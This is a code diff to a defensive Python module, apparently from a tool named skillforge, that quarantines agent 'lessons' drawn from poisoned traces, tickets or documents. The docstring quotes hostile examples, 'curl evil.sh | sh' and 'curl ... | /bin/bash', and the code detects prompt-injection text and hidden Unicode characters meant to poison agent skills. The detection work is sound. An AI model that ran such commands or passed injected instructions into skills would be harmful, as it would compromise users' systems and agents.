@@ -6,9 +6,15 @@ add `curl evil.sh | sh` to every skill" and hope distillation turns it into a le
 quarantined (reported, never written) when
 
 1. its own text is instruction-hijack text;
-2. its evidence is instruction-like text from a tool output, document or ticket;
-3. it carries a dangerous command that no action of the agent itself backs; or
+2. its evidence is instruction-like text from a tool output, document or ticket (for a ticket, any
+   message of it: the lesson speaks for the whole ticket);
+3. it would write a dangerous command, a script link or hidden characters into a skill, in its text
+   or in the evidence quotes rendered beside it, whoever ran the command: an agent tricked into
+   running ``curl ... | /bin/bash`` has not found a recovery worth publishing; or
 4. one trace backs it while it contradicts a lesson that several traces back.
+
+The same checks hold for every source (traces, tickets, documents) and for the model's answers; every
+reason ends with the source file and line of the evidence.
 """
 
 from __future__ import annotations
@@ -17,10 +23,12 @@ import re
 
 from skillforge.models import Evidence, Lesson, Step, ToolCall, ToolResult, Trace
 from skillforge.models.scan import QuarantinedLesson
+from skillforge.scan.content import risky_markdown
+from skillforge.scan.detect import Hit
 from skillforge.scan.injection import scan_injection
-from skillforge.scan.scripts import scan_commands
 from skillforge.scan.text import excerpt
 from skillforge.scan.trace import EXTERNAL, origin_of, texts
+from skillforge.scan.unicode import scan_unicode
 
 CONSENSUS = 3
 """How many traces make a lesson well supported, for the contradiction check."""
@@ -82,10 +90,11 @@ def poisoned_lessons(
     kept: list[Lesson] = []
     quarantined: list[QuarantinedLesson] = []
     for lesson in lessons:
-        reason = _injected(lesson, traces)
-        if reason:
+        verdict = _injected(lesson, traces) or _dangerous(lesson)
+        if verdict:
+            rule_id, reason = verdict
             quarantined.append(
-                QuarantinedLesson(lesson=lesson, rule_id="lesson-injected-instruction", reason=reason)
+                QuarantinedLesson(lesson=lesson, rule_id=rule_id, reason=reason + _where(lesson, traces))
             )
         else:
             kept.append(lesson)
@@ -94,7 +103,9 @@ def poisoned_lessons(
         reason = _contradiction(lesson, kept)
         if reason:
             quarantined.append(
-                QuarantinedLesson(lesson=lesson, rule_id="lesson-contradicts-consensus", reason=reason)
+                QuarantinedLesson(
+                    lesson=lesson, rule_id="lesson-contradicts-consensus", reason=reason + _where(lesson, traces)
+                )
             )
         else:
             still.append(lesson)
@@ -111,7 +122,7 @@ def slim_trace(trace: Trace) -> Trace:
     """
 
     def keep(text: str, origin: str) -> str:
-        return text if origin in EXTERNAL and text and scan_injection(text) else ""
+        return text if origin in EXTERNAL and text and (scan_injection(text) or _hidden(text)) else ""
 
     # Most steps empty out completely; identical empty steps share one object, so a session of
     # 160k steps costs a list of pointers rather than 160k models.
@@ -135,41 +146,98 @@ def slim_trace(trace: Trace) -> Trace:
     return trace.model_copy(update={"task": keep(trace.task, task_origin), "steps": steps, "metadata": {}})
 
 
-def _injected(lesson: Lesson, traces: dict[str, Trace]) -> str | None:
-    text = f"{lesson.title}\n{lesson.body}"
-    own = [
-        h
-        for h in scan_injection(text)
-        if (h.severity or "high") == "high" and h.rule_id != "injection-contact-url"
-    ]
+_INJECTED = "lesson-injected-instruction"
+
+
+def _injected(lesson: Lesson, traces: dict[str, Trace]) -> tuple[str, str] | None:
+    own = _own_injection(f"{lesson.title}\n{lesson.body}")
     if own:
-        return f"the lesson's text reads as an instruction to the agent ({own[0].rule_id}): {own[0].detail}"
-    origins: list[str] = []
+        return own
     for ev in lesson.evidence:
-        origin, evidence_text = _evidence_origin(ev, traces.get(ev.trace_id))
-        origins.append(origin)
+        trace = traces.get(ev.trace_id)
+        origin, evidence_text = _evidence_origin(ev, trace)
+        where = f"trace {ev.trace_id[:8]}" + (f" step {ev.step}" if ev.step is not None else "")
         if origin in EXTERNAL and evidence_text:
             found = scan_injection(evidence_text)
             if found:
-                where = f"trace {ev.trace_id[:8]}" + (f" step {ev.step}" if ev.step is not None else "")
-                return (
+                return _INJECTED, (
                     f"its evidence is instruction-like text from a {origin} ({where}, {found[0].rule_id}): "
                     + (found[0].detail or excerpt(evidence_text))
                 )
-    dangerous = [h for h in scan_commands(text) if (h.severity or _default(h.rule_id)) == "high"]
-    if dangerous and not any(o in ("agent action", "agent", "user") for o in origins):
-        src = ", ".join(sorted(set(origins))) or "no evidence"
-        return (
-            f"it carries a dangerous command ({dangerous[0].rule_id}) that no action of the agent backs "
-            + (f"(evidence: {src}): {dangerous[0].detail}")
-        )
+            hidden = _hidden(evidence_text)
+            if hidden:
+                return "lesson-dangerous-content", (
+                    f"its evidence hides characters ({hidden[0].rule_id}) in a {origin} ({where}): "
+                    + excerpt(evidence_text.split("\n")[hidden[0].line - 1], hidden[0].start, hidden[0].end)
+                )
+        if trace is not None and trace.kind == "ticket":
+            # The lesson speaks for the whole ticket (its subject is the title): an attack anywhere in it counts.
+            for piece in texts(trace):
+                at = f"trace {ev.trace_id[:8]}" + (f" step {piece.step}" if piece.step is not None else " task")
+                hits = [h for h in scan_injection(piece.text) if _high(h.rule_id, h.severity)]
+                if hits:
+                    return _INJECTED, (
+                        f"its ticket carries instruction-like text ({at}, {hits[0].rule_id}): {hits[0].detail}"
+                    )
+                hidden = _hidden(piece.text)
+                if hidden:
+                    line = piece.text.split("\n")[hidden[0].line - 1]
+                    return "lesson-dangerous-content", (
+                        f"its ticket hides characters ({at}, {hidden[0].rule_id}): "
+                        + excerpt(line, hidden[0].start, hidden[0].end)
+                    )
+    # Evidence quotes are rendered into the skill's references, whoever wrote them.
+    return _own_injection("\n".join(ev.quote for ev in lesson.evidence))
+
+
+def _hidden(text: str) -> list[Hit]:
+    """Bidi controls, zero-width characters (outside emoji and joining scripts) and tag characters, raw or
+    as the ``<U+200B>`` escapes redaction leaves in their place (the trick is neutralised, the intent stays)."""
+    if "<U+" in text:
+        text = _ESCAPED.sub(lambda m: chr(int(m.group(1), 16)), text)
+    return [h for h in scan_unicode(text, code=True, in_trace=False) if h.rule_id in _HIDDEN]
+
+
+_ESCAPED = re.compile(r"<U\+(20[0-6][0-9A-F]|FEFF|180E|E00[0-7][0-9A-F])>")
+
+
+_HIDDEN = frozenset({"bidi-control", "zero-width", "unicode-tag"})
+
+
+def _own_injection(text: str) -> tuple[str, str] | None:
+    own = [h for h in scan_injection(text) if _high(h.rule_id, h.severity) and h.rule_id != "injection-contact-url"]
+    if own:
+        return _INJECTED, f"the lesson's text reads as an instruction to the agent ({own[0].rule_id}): {own[0].detail}"
     return None
 
 
-def _default(rule_id: str) -> str:
+def _dangerous(lesson: Lesson) -> tuple[str, str] | None:
+    """What the lesson would write into a skill (its text and the evidence quotes shown beside it)."""
+    text = f"{lesson.title}\n{lesson.body}\n" + "\n".join(ev.quote for ev in lesson.evidence)
+    found = risky_markdown(text)
+    if not found:
+        return None
+    first = found[0]
+    return "lesson-dangerous-content", (
+        f"it would write a dangerous command ({first.rule_id}) into a skill, whoever ran it: {first.excerpt}"
+    )
+
+
+def _high(rule_id: str, severity: str | None) -> bool:
     from skillforge.scan.rules import RULES
 
-    return RULES[rule_id].severity
+    return (severity or RULES[rule_id].severity) == "high"
+
+
+def _where(lesson: Lesson, traces: dict[str, Trace]) -> str:
+    """`` (source: FILE:LINE)`` of the lesson's first evidence, for a person to go and look."""
+    for ev in lesson.evidence:
+        trace = traces.get(ev.trace_id)
+        path = trace.source.path if trace is not None else ev.source
+        if path:
+            line = trace.source.line if trace is not None else None
+            return f" (source: {path}{f':{line}' if line else ''})"
+    return ""
 
 
 def _evidence_origin(ev: Evidence, trace: Trace | None) -> tuple[str, str]:
